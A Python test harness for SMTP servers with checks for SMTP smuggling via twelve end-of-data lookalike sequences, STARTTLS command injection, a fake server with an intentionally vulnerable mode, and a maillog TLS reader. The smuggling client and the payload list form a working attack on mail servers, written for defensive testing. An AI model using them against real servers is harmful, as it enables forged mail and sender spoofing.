#!/usr/bin/env python3
"""Raw SMTP clients and log readers for the interoperability cases.

Python standard library only. Every subcommand exits 0 when its check holds,
1 with a message on stderr when it does not, 2 on a usage or connection error.

  smuggle HOST PORT INDEX RCPT SMUGGLED_RCPT
      Send one message whose body holds end-of-data lookalike number INDEX
      (0-12, see LOOKALIKES) followed by a smuggled MAIL/RCPT/DATA transaction.
      Prints one line: the index, the reply to the final dot, and what came after.
  starttls-pipelined HOST PORT
      Send "STARTTLS\\r\\nRSET\\r\\n" in one write, handshake, and check that
      the RSET is never answered inside TLS (the server either closes or
      answers only what is sent over TLS).
  fake-server PORT CERT KEY vulnerable|fixed
      A minimal SMTP server with STARTTLS, for the control of the injection
      probe: "vulnerable" keeps the plaintext bytes that followed STARTTLS and
      answers them inside TLS (the CVE-2011-0411 bug); "fixed" discards them.
  tls-of MAILLOG RCPT
      Read a Postfix maillog and print "tls" or "plain" for the smtpd session
      that received the message for RCPT, or "absent" if none did.
"""

import re
import socket
import ssl
import sys

# The twelve end-of-data lookalikes (SMTP smuggling, CVE-2023-51764/5/6).
# Every CRLF . CRLF ends the data, and nothing else; none of these may.
# (\r\r\n.\r\n is not among them: it holds CRLF . CRLF, a real end.)
LOOKALIKES = [
    b"\n.\n",
    b"\n.\r",
    b"\r.\n",
    b"\r.\r",
    b"\n.\r\n",
    b"\r.\r\n",
    b"\r\n\x00.\r\n",
    b"\r\n.\n",
    b"\r\n.\r",
    b"\r\n.\x00\r\n",
    b"\r\n.\r\r\n",
    b"\r\r\n.\r\r\n",
]


def die(msg, code=1):
    sys.stderr.write(msg + "\n")
    sys.exit(code)


class Conn:
    """A line-oriented SMTP connection over a plain or TLS socket."""

    def __init__(self, host, port, timeout=15.0):
        self.sock = socket.create_connection((host, int(port)), timeout=timeout)
        self.buf = b""

    def send(self, data):
        self.sock.sendall(data)

    def reply(self):
        """Read one (possibly multi-line) reply; return (code, text)."""
        lines = []
        while True:
            while b"\r\n" not in self.buf:
                chunk = self.sock.recv(4096)
                if not chunk:
                    raise ConnectionError("connection closed; partial: %r" % self.buf)
                self.buf += chunk
            line, self.buf = self.buf.split(b"\r\n", 1)
            lines.append(line.decode("latin-1"))
            if len(line) < 4 or line[3:4] != b"-":
                break
        code = int(lines[-1][:3]) if lines[-1][:3].isdigit() else 0
        return code, "\n".join(lines)

    def cmd(self, line):
        self.send(line + b"\r\n")
        return self.reply()

    def drain(self, wait=1.0):
        """Return whatever arrives within `wait` seconds (b"" on close or timeout)."""
        self.sock.settimeout(wait)
        data = self.buf
        self.buf = b""
        try:
            while True:
                chunk = self.sock.recv(4096)
                if not chunk:
                    break
                data += chunk
        except (socket.timeout, ssl.SSLError, OSError):
            pass
        return data


def expect(conn, line, code):
    got, text = conn.cmd(line) if line is not None else conn.reply()
    if got != code:
        die("%s: expected %d, got %r" % (line, code, text))
    return text


def smuggle(host, port, index, rcpt, smuggled_rcpt):
    index = int(index)
    look = LOOKALIKES[index]
    c = Conn(host, port)
    expect(c, None, 220)
    expect(c, b"EHLO smuggler.test", 250)
    expect(c, b"MAIL FROM:<sender@smuggler.test>", 250)
    expect(c, b"RCPT TO:<%s>" % rcpt.encode(), 250)
    expect(c, b"DATA", 354)
    body = (
        b"Subject: intended %d\r\nFrom: <sender@smuggler.test>\r\n\r\nintended body %d"
        % (index, index)
        + look
        + b"MAIL FROM:<evil@smuggler.test>\r\n"
        + b"RCPT TO:<%s>\r\n" % smuggled_rcpt.encode()
        + b"DATA\r\n"
        + b"Subject: smuggled %d\r\nFrom: <evil@smuggler.test>\r\n\r\nsmuggled body %d\r\n"
        % (index, index)
        + b".\r\n"
    )
    c.send(body)
    # Replies: to the real end of data (one reply, 250 or 5xx). A vulnerable
    # server would answer the lookalike's end of data first and then the
    # smuggled MAIL/RCPT/DATA.
    code, text = c.reply()
    tail = c.drain(0.3)
    try:
        c.send(b"QUIT\r\n")
        tail += c.drain(0.5)
    except OSError:
        pass
    print("%d %r final=%d %r after=%r" % (index, look, code, text, tail))
    # The harness decides from what the next hop received; this is informative.
    return 0


def starttls_pipelined(host, port):
    c = Conn(host, port)
    expect(c, None, 220)
    text = expect(c, b"EHLO injector.test", 250)
    if "STARTTLS" not in text.upper():
        die("STARTTLS not advertised: %r" % text, 2)
    c.send(b"STARTTLS\r\nRSET\r\n")
    code, text = c.reply()
    if code != 220:
        # Refusing pipelined STARTTLS outright is also safe.
        if c.drain(0.5) == b"" or code >= 500:
            print("refused before TLS: %r" % text)
            return 0
        die("unexpected reply to STARTTLS: %r" % text)
    leftover = c.buf
    c.buf = b""
    if leftover:
        die("the server answered the pipelined RSET in plaintext: %r" % leftover)
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    try:
        tls = ctx.wrap_socket(c.sock, server_hostname="localhost")
    except (ssl.SSLError, OSError) as e:
        print("server closed instead of handshaking: %s" % e)
        return 0
    c.sock = tls
    early = c.drain(1.5)
    if early:
        die("bytes received inside TLS before any TLS command (injected RSET answered?): %r" % early)
    try:
        c.sock.settimeout(10)
        code, text = c.cmd(b"EHLO injector.test")
    except (ConnectionError, OSError) as e:
        print("server closed the TLS session after the injection: %s" % e)
        return 0
    if code != 250:
        die("first reply inside TLS is not the EHLO reply: %r" % text)
    if re.search(r"^250[ -]2\.0\.0 (Ok|Flushed|Reset)", text, re.I | re.M) and "EHLO" not in text:
        die("first reply inside TLS looks like the RSET reply: %r" % text)
    if "STARTTLS" in text.upper():
        die("STARTTLS advertised again inside TLS: %r" % text)
    print("pipelined RSET discarded; first TLS reply is the EHLO reply")
    try:
        c.cmd(b"QUIT")
    except OSError:
        pass
    return 0


def fake_server(port, cert, key, variant):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert, key)
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("127.0.0.1", int(port)))
    ls.listen(5)
    while True:
        s, _ = ls.accept()
        s.settimeout(10)
        try:
            fake_session(s, ctx, variant == "vulnerable")
        except (OSError, ssl.SSLError):
            pass
        finally:
            s.close()


def fake_session(s, ctx, vulnerable):
    s.sendall(b"220 fake.test ESMTP\r\n")
    buf, conn, tls = b"", s, False
    while True:
        while b"\r\n" not in buf:
            d = conn.recv(4096)
            if not d:
                return
            buf += d
        line, buf = buf.split(b"\r\n", 1)
        cmd = line.upper()
        if cmd.startswith(b"EHLO"):
            conn.sendall(b"250-fake.test\r\n" + (b"" if tls else b"250-STARTTLS\r\n") + b"250 PIPELINING\r\n")
        elif cmd == b"STARTTLS" and not tls:
            conn.sendall(b"220 2.0.0 Ready to start TLS\r\n")
            conn, tls = ctx.wrap_socket(s, server_side=True), True
            if not vulnerable:
                buf = b""  # RFC 3207 section 4.2 / CVE-2011-0411: forget plaintext input
        elif cmd == b"QUIT":
            conn.sendall(b"221 2.0.0 Bye\r\n")
            return
        else:
            conn.sendall(b"250 2.0.0 Ok\r\n")


def tls_of(maillog, rcpt):
    """Find the smtpd session that received RCPT and say whether it used TLS."""
    lines = open(maillog, encoding="latin-1").read().splitlines()
    # queue id of the delivery to rcpt
    qid = None
    for ln in lines:
        m = re.search(r"\]: ([0-9A-F]{6,}): to=<([^>]*)>", ln)
        if m and m.group(2).lower() == rcpt.lower():
            qid = m.group(1)
            break
    if qid is None:
        print("absent")
        return 0
    # the smtpd line "QID: client=..." and its process id
    for i, ln in enumerate(lines):
        m = re.search(r"smtpd\[(\d+)\]: %s: client=" % qid, ln)
        if not m:
            continue
        pid = m.group(1)
        # walk back to that process's "connect from" line
        tls = False
        for back in range(i - 1, -1, -1):
            prev = lines[back]
            if "smtpd[%s]:" % pid not in prev:
                continue
            if "TLS connection established from" in prev:
                tls = True
            if re.search(r"smtpd\[%s\]: connect from" % pid, prev):
                break
        print("tls" if tls else "plain")
        return 0
    print("absent")
    return 0


def main(argv):
    if len(argv) < 2:
        die(__doc__, 2)
    cmd, args = argv[1], argv[2:]
    try:
        if cmd == "smuggle" and len(args) == 5:
            return smuggle(*args)
        if cmd == "starttls-pipelined" and len(args) == 2:
            return starttls_pipelined(*args)
        if cmd == "fake-server" and len(args) == 4:
            return fake_server(*args)
        if cmd == "tls-of" and len(args) == 2:
            return tls_of(*args)
        if cmd == "count-lookalikes":
            print(len(LOOKALIKES))
            return 0
    except (OSError, ConnectionError) as e:
        die("%s: connection error: %s" % (cmd, e), 2)
    die(__doc__, 2)


if __name__ == "__main__":
    sys.exit(main(sys.argv))
